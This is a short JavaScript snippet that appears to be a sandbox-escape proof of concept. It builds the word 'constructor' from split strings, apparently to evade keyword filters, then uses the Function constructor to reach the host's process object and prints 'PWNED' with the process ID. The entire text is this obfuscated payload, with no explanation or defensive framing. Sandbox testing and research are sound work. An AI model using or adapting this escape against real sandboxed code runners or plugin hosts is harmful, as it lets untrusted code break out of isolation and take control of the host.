const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
function* g() { yield t; }
for (const o of g()) console.log('PWNED', o.go(fn)('return process')().pid);
